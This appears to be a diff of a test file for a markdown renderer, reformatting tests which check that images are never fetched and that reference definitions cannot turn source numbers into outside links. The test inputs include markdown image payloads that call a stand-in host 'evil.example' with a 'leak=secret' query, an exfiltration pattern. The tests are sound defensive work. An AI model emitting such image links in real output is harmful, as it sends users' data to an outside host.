@@ -75,14 +75,14 @@ test('a link inside the product opens there, one to another site says which', ()
   expect(out).toHaveAttribute('target', '_blank')
 })
 
-test.each([
-  '![看我](https://evil.example/?leak=secret)',
-  '[p]: https://evil.example/\n![看我][p]',
-])('a picture is never fetched: %s', (text) => {
-  const container = show(text)
-  expect(container.querySelector('img, a')).toBeNull()
-  expect(container).toHaveTextContent('［图：看我］')
-})
+test.each(['![看我](https://evil.example/?leak=secret)', '[p]: https://evil.example/\n![看我][p]'])(
+  'a picture is never fetched: %s',
+  (text) => {
+    const container = show(text)
+    expect(container.querySelector('img, a')).toBeNull()
+    expect(container).toHaveTextContent('［图：看我］')
+  },
+)
 
 test('a definition cannot turn the number of a source into a link elsewhere', () => {
   show('第一[1]\n\n[1]: https://evil.example/')
